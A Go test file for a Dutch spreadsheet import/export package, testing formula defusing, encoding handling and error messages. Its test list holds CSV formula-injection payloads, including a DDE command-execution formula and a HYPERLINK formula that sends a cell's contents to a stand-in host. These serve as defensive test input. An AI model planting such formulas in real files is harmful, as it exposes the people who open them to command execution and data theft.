package sheet_test

import (
	"bytes"
	"encoding/json"
	"fmt"
	"reflect"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/text/encoding/charmap"
	"golang.org/x/text/encoding/unicode"

	"buurtdorp/internal/sheet"
)

var columns = []sheet.Column{{"naam", sheet.Text}, {"volwassenen", sheet.Number}, {"weet_nog_niet", sheet.YesNo}, {"talen", sheet.List}}

// formulas are what a spreadsheet may calculate, with the payloads people really try.
var formulas = []string{
	"=1+1", "+1+1", "-1+1", "@SUM(1;1)", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)",
	`=cmd|'/C calc'!A0`, `=HYPERLINK("http://voorbeeld.example?x="&A1;"klik")`, `  =1+1`, `"=1+1"`, `a;=1+1;b`, `a,=1+1,b`, `a,"=1+1`, "a\t=1+1",
}

// however is a row as spreadsheets with one separator or another cut it in cells, when
// they do not mind our quotes.
func however(row string) (cells []string) {
	for _, sep := range []string{";", ",", "\t", "\n", "|"} {
		for cell := range strings.SplitSeq(row, sep) {
			cells = append(cells, strings.Trim(cell, "\" \r\u00a0"))
		}
	}
	return cells
}

func TestNoFormulaIsLive(t *testing.T) {
	for _, f := range formulas {
		var b bytes.Buffer
		table := sheet.Table{Columns: columns, Rows: [][]string{{f, f, f, f}, {"a " + f, "x" + f, "", ""}}}
		if err := table.WriteCSV(&b); err != nil {
			t.Fatal(err)
		}
		for _, cell := range however(b.String()) {
			if cell != "" && strings.ContainsRune("=@＝＋－＠", []rune(cell)[0]) || len(cell) > 1 && (cell[0] == '+' || cell[0] == '-') {
				t.Errorf("%q is live as %q in\n%s", f, cell, b.String())
			}
		}
	}
}

func TestReviveUndoesDefuse(t *testing.T) {
	more := []string{"", "'", "''", "'=", "''=1", "'t Hof", "a'=b", "06-12345678", "+31612345678", "- een\n- twee", "a,'b", ";", ";;'", ` "'=x`, "\n\n'\n=", "😀=", "−1"}
	for _, s := range append(more, formulas...) {
		if got := sheet.Revive(sheet.Defuse(s)); got != s {
			t.Errorf("%q became %q", s, got)
		}
		if got := sheet.Defuse(s); got != s && !strings.Contains(got, "'") {
			t.Errorf("%q was changed into %q", s, got)
		}
	}
}

func FuzzReviveUndoesDefuse(f *testing.F) {
	for _, s := range formulas {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		s = strings.ToValidUTF8(s, "")
		if got := sheet.Revive(sheet.Defuse(s)); got != s {
			t.Errorf("%q became %q", s, got)
		}
		if got := sheet.Split(sheet.Join([]string{s, "x"})); !reflect.DeepEqual(got, []string{s, "x"}) {
			t.Errorf("%q in a list became %q", s, got)
		}
	})
}

// The ways in which people save the same table.
func TestRead(t *testing.T) {
	const plain = "naam;volwassenen;talen\nSamira;1;nl, ar\n\"Zoë; en \"\"Piet\"\"\";2;\n;;\n"
	windows, err := charmap.Windows1252.NewEncoder().String(plain)
	if err != nil {
		t.Fatal(err)
	}
	utf16, err := unicode.UTF16(unicode.LittleEndian, unicode.UseBOM).NewEncoder().String(strings.ReplaceAll(plain, ";", "\t"))
	if err != nil {
		t.Fatal(err)
	}
	for name, raw := range map[string]string{
		"Plain": plain, "WithMark": "\ufeff" + plain, "CRLF": strings.ReplaceAll(plain, "\n", "\r\n"), "Windows1252": windows, "SepLine": "sep=;\n" + plain,
		"OddNames": "Naam ; VOLWASSENEN;Talen\n" + strings.SplitN(plain, "\n", 2)[1],
		"JSON":     `[{"naam":"Samira","volwassenen":1,"talen":["nl","ar"]},{"talen":[],"naam":"Zoë; en \"Piet\"","volwassenen":2},{}]`,
	} {
		rows, wrong, err := sheet.Read(strings.NewReader(raw), columns)
		if err != nil || len(wrong) > 0 || len(rows) != 2 {
			t.Errorf("%s: %d rows, %v %v", name, len(rows), wrong, err)
			continue
		}
		if a, b := rows[0], rows[1]; a.Cell("naam") != "Samira" || a.Cell("talen") != "nl, ar" || a.Cell("volwassenen") != "1" ||
			b.Cell("naam") != `Zoë; en "Piet"` || b.Cell("talen") != "" || b.Number != a.Number+1 {
			t.Errorf("%s: read %v", name, rows)
		}
	}
	if rows, wrong, _ := sheet.Read(strings.NewReader(utf16), columns); len(wrong) > 0 || len(rows) != 2 || rows[0].Cell("talen") != "nl, ar" {
		t.Errorf("Unicode text of Excel: %v %v", rows, wrong)
	}
	if rows, wrong, _ := sheet.Read(strings.NewReader("naam,talen\nSamira,\"nl, ar\"\n"), columns); len(wrong) > 0 || rows[0].Cell("talen") != "nl, ar" {
		t.Errorf("with commas: %v %v", rows, wrong)
	}
}

// What is no table, or too much of one, is refused in words people understand.
func TestReadRefuses(t *testing.T) {
	for name, c := range map[string]struct{ raw, says string }{
		"Nothing":       {"", "Bestand: Dit bestand is leeg."},
		"OnlyNames":     {"naam;talen\n", "Bestand: Er staan geen rijen in."},
		"EmptyList":     {"[]", "Bestand: Er staan geen rijen in."},
		"UnknownColumn": {"naam;bsn\nx;1\n", "Rij 1, kolom bsn: Deze kolom kennen we niet. Deze kunnen: naam, volwassenen"},
		"TwiceAColumn":  {"naam;Naam\nx;y\n", "Rij 1, kolom Naam: Deze kolom staat er twee keer."},
		"TooManyCells":  {"naam;talen\nx;nl\ny;nl;ar\n", "Rij 3: Deze rij heeft meer cellen dan er kolommen zijn."},
		"LooseQuote":    {"naam;talen\nx;nl\n\"y;nl\nz;nl\n", "Rij 3: Hier staat een aanhalingsteken"},
		"XLSX":          {"PK\x03\x04" + strings.Repeat("\x00", 100), "Bestand: Dit is geen tabel. Bewaar hem als Excel-bestand"},
		"OldExcel":      {"\xd0\xcf\x11\xe0\xa1\xb1", "Bestand: Dit is een oud Excel-bestand, of er zit een wachtwoord op."},
		"Gzip":          {"\x1f\x8b\x08\x00", "Dit is geen tabel"},
		"Zeros":         {"naam\n\x00\n", "Dit is geen tabel"},
		"TooLarge":      {strings.Repeat("a", sheet.MaxBytes+1), "Bestand: Dit bestand is te groot."},
		"TooManyRows":   {"naam\n" + strings.Repeat("x\n", sheet.MaxRows+1), "te veel rijen"},
		"LongCell":      {"naam\n" + strings.Repeat("x", sheet.MaxCell+1), "Rij 2, kolom naam: Dit is te lang."},
		"JSONObject":    {`{"naam":"x"}`, "Bestand: Dit is geen lijst in JSON."},
		"JSONDeep":      {`[{"naam":` + strings.Repeat("[", 20000) + strings.Repeat("]", 20000) + `}]`, "Rij 1"},
		"JSONOdd":       {`[{"naam":{"x":1}}]`, "Rij 1, kolom naam: Dit kunnen we niet lezen."},
		"JSONCut":       {`[{"naam":"x"}`, "Het einde van de lijst ontbreekt."},
		"JSONMore":      {`[{"naam":"x"}] []`, "Na de lijst staat nog iets."},
		"JSONNumbers":   {`[1,2]`, "Rij 1: Dit kunnen we niet lezen."},
	} {
		_, wrong, err := sheet.Read(strings.NewReader(c.raw), columns)
		if err != nil || len(wrong) == 0 || !strings.Contains(wrong[0].String(), c.says) {
			t.Errorf("%s: said %v %v, want %q", name, wrong, err, c.says)
		}
	}
}

func TestWriteJSON(t *testing.T) {
	var b bytes.Buffer
	table := sheet.Table{Columns: columns, Rows: [][]string{{"Zoë <x>", "2", "ja", `nl, "a, b"`}, {"", "", "", ""}}}
	if err := table.WriteJSON(&b); err != nil {
		t.Fatal(err)
	}
	var got []map[string]any
	if err := json.Unmarshal(b.Bytes(), &got); err != nil {
		t.Fatalf("%v in %s", err, b.String())
	}
	want := []map[string]any{{"naam": "Zoë <x>", "volwassenen": 2.0, "weet_nog_niet": true, "talen": []any{"nl", "a, b"}},
		{"naam": nil, "volwassenen": nil, "weet_nog_niet": nil, "talen": []any{}}}
	if !reflect.DeepEqual(got, want) {
		t.Errorf("wrote %s", b.String())
	}
	rows, wrong, err := sheet.Read(&b, columns)
	_ = rows
	if err != nil || len(wrong) > 0 {
		t.Error("and cannot read it back", wrong, err)
	}
}

func TestCells(t *testing.T) {
	for cell, want := range map[string]string{"26-11-2026": "2026-11-26", "2026-11-26": "2026-11-26", "1/2/2026": "2026-02-01", "31-6-2026": "", "morgen": "", "2026": ""} {
		day, ok := sheet.ParseDay(cell)
		if got := map[bool]string{true: sheet.Day(day)}[ok]; got != want {
			t.Errorf("day %q is %q, want %q", cell, got, want)
		}
	}
	for cell, want := range map[string]string{"2026-07-01 10:00": "08:00Z", "2026-01-01 10:00": "09:00Z", "1-7-2026 9.30": "07:30Z", "2026-07-01T10:00": "08:00Z", "10:00": ""} {
		at, ok := sheet.ParseMoment(cell)
		if got := map[bool]string{true: at.UTC().Format("15:04Z")}[ok]; got != want {
			t.Errorf("moment %q is %q, want %q", cell, got, want)
		}
	}
	if s := sheet.Moment(time.Date(2026, 7, 1, 22, 30, 0, 0, time.UTC)); s != "2026-07-02 00:30" {
		t.Errorf("wrote %s", s)
	}
	for cell, want := range map[string]string{"4": "4 true", " 4 ": "4 true", "4,0": "4 true", "4.00": "4 true", "4,5": "0 false", "vier": "0 false", "": "0 false", "99999999999999999999": "9223372036854775807 false"} {
		n, ok := sheet.ParseNumber(cell)
		if got := fmt.Sprint(n, ok); got != want {
			t.Errorf("number %q is %s, want %s", cell, got, want)
		}
	}
	for cell, want := range map[string]string{"ja": "true true", "Nee": "false true", "X": "true true", "-": "false true", "misschien": "false false"} {
		yes, ok := sheet.ParseYesNo(cell)
		if got := fmt.Sprint(yes, ok); got != want {
			t.Errorf("yes or no %q is %s, want %s", cell, got, want)
		}
	}
	for cell, want := range map[string][]string{"a, b": {"a", "b"}, "a;b\nc": {"a", "b", "c"}, `"a, b" , c`: {"a, b", "c"}, "": {}, ",;": {}, `"zegt ""ja"""`: {`zegt "ja"`}} {
		if got := sheet.Split(cell); !reflect.DeepEqual(got, want) {
			t.Errorf("list %q is %q, want %q", cell, got, want)
		}
	}
}

// What people keep above a list is not its columns: a title in one wide cell, a row that is
// left open, a date with a comma in it. The rows keep the numbers that people see.
func TestATitleAboveAList(t *testing.T) {
	for name, file := range map[string]string{
		"semicolons": "Wachtlijst, oktober 2026;;\r\n;;\r\nNaam;Dorp;Tel\r\nZoë;Klaaswaal;0612345678\r\n",
		"commas":     "Wachtlijst 2026\r\nBijgewerkt op maandag\r\nNaam,Dorp,Tel\r\nZoë,Klaaswaal,0612345678\r\n",
		"tabs":       "Wachtlijst; oktober\t\t\r\n\t\t\r\nNaam\tDorp\tTel\r\nZoë\tKlaaswaal\t0612345678\r\n",
	} {
		for how, raw := range map[string]string{"UTF-8": file, "a mark": "\ufeff" + file, "Windows": strings.ReplaceAll(file, "ë", "\xeb")} {
			lines, wrong, err := sheet.Open(strings.NewReader(raw))
			if err != nil || len(wrong) > 0 {
				t.Fatalf("%s, %s: %v %v", name, how, wrong, err)
			}
			if !slices.Equal(lines.Names, []string{"Naam", "Dorp", "Tel"}) || len(lines.Rows) != 1 || lines.Rows[0].Number != 4 || lines.Rows[0].Cells[0] != "Zoë" {
				t.Errorf("%s, %s: %q above %+v", name, how, lines.Names, lines.Rows)
			}
		}
	}
}
